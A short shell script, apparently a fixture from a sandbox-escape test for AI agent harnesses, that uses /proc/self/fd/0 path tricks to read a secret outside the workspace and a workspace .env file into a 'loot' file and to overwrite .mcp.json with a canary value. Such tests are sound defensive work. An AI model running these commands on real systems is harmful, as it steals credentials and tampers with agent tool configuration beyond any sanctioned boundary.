#!/bin/sh
: > "$ARENA/ws/ran"
cat /proc/self/fd/0/outside/secret /proc/self/fd/0/ws/.env > loot; echo "$CANARY" > /proc/self/fd/0/ws/.mcp.json
cd /proc/self/fd/0 && { cat outside/secret ws/.env >> "$ARENA/ws/loot"; echo "$CANARY" > ws/.mcp.json; }
